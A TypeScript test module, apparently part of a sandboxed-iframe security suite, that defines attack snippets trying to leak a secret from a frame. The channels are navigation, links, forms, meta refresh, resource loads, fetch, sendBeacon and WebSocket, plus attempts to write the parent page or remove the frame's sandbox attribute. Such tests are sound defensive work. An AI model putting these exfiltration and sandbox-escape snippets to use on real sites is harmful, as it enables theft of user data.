import type { Attack } from "../attack.ts";

/**
 * Attacks from the frame's own main thread, as if a reader's code had come to run there, which it never does. (Two things
 * that no policy stops there are why: WebRTC, and connections without a request, as for `rel=preconnect`.)
 */
export const frameLeaks: readonly Attack[] = [
  navigation("location", `location = http + "/location?data=secret";`),
  navigation("location.replace", `location.replace(http + "/replace?data=secret");`),
  navigation("window.open", `window.open(http + "/open?data=secret");`),
  navigation("window.open into itself", `window.open(http + "/self?data=secret", "_self");`),
  navigation("top.location", `top.location = http + "/top?data=secret";`),
  navigation("parent.location", `parent.location.replace(http + "/parent?data=secret");`),
  navigation(
    "a link",
    `for (const target of ["_self", "_top", "_parent", "_blank"]) click(target);
     function click(target) {
       const link = document.createElement("a");
       link.href = http + "/link?data=secret";
       link.target = target;
       document.body.append(link);
       link.click();
     }`,
  ),
  navigation(
    "a download",
    `const link = document.createElement("a");
     link.href = http + "/download?data=secret";
     link.download = "leak";
     document.body.append(link);
     link.click();`,
  ),
  navigation(
    "a form",
    `for (const target of ["_self", "_top"]) {
       const form = document.createElement("form");
       form.action = http + "/form?data=secret";
       form.target = target;
       form.method = "post";
       document.body.append(form);
       form.submit();
     }`,
  ),
  navigation(
    "a meta refresh",
    `const meta = document.createElement("meta");
     meta.httpEquiv = "refresh";
     meta.content = "0;url=" + http + "/refresh?data=secret";
     document.head.append(meta);`,
  ),
  request("a picture", element(`img`, `src`, `picture.svg`)),
  request("a script", element(`script`, `src`, `script.js`)),
  request("a style sheet", `${element("link", "href", "sheet.css", "rel = 'stylesheet'")}`),
  request("a prefetch", `${element("link", "href", "prefetch", "rel = 'prefetch'")}`),
  request("a preload", `${element("link", "href", "preload.js", "rel = 'preload'; element.as = 'script'")}`),
  request("a frame", element("iframe", "src", "frame")),
  request("an object", element("object", "data", "object.svg")),
  request("an embed", element("embed", "src", "embed.svg")),
  request("a video", element("video", "src", "video")),
  request(
    "a style",
    `const style = document.createElement("style");
     style.textContent = "@import url(" + http + "/import.css); body { background: url(" + http + "/background.svg) }";
     document.head.append(style);
     document.body.append("text");
     document.body.style.borderImage = "url(" + http + "/border.svg) 1";`,
  ),
  request(
    "fetch from the frame",
    `fetch(http + "/fetch?data=secret", { mode: "no-cors" }).catch(() => undefined);`,
  ),
  request("sendBeacon from the frame", `navigator.sendBeacon(http + "/beacon?data=secret", "x");`),
  request("WebSocket from the frame", `new WebSocket(webSocket + "/socket?data=secret");`),
];

/** Attempts to touch the page around the frame; each returns "touched" when it could. */
export const parentAttacks: readonly Attack[] = [
  parent(
    "the parent's document",
    `parent.document.title = "stolen"; return parent.document.title === "stolen" ? "touched" : "";`,
  ),
  parent("the top document", `top.document.body.dataset.stolen = "1"; return "touched";`),
  parent("the parent's globals", `parent.stolen = 1; return parent.stolen === 1 ? "touched" : "";`),
  parent("the frame's own element", `frameElement.removeAttribute("sandbox"); return "touched";`),
  parent("the parent's address", `return parent.location.href.length > 0 ? "touched" : "";`),
  parent("the parent's history", `parent.history.pushState({}, "", "/free/stolen"); return "touched";`),
  parent("the parent's storage", `parent.localStorage.setItem("stolen", "1"); return "touched";`),
];

function navigation(name: string, code: string): Attack {
  return { ...request(name, code), navigates: true };
}

function request(name: string, code: string): Attack {
  return {
    name,
    control: "frame",
    code: `${code}\nawait new Promise((resolve) => setTimeout(resolve, 400));`,
  };
}

function parent(name: string, code: string): Attack {
  return { name, control: "frame", code };
}

function element(tag: string, attribute: string, file: string, more = "id = 'leak'"): string {
  return `const element = document.createElement("${tag}");
     element.${more};
     element.${attribute} = http + "/${file}?data=secret";
     document.body.append(element);`;
}
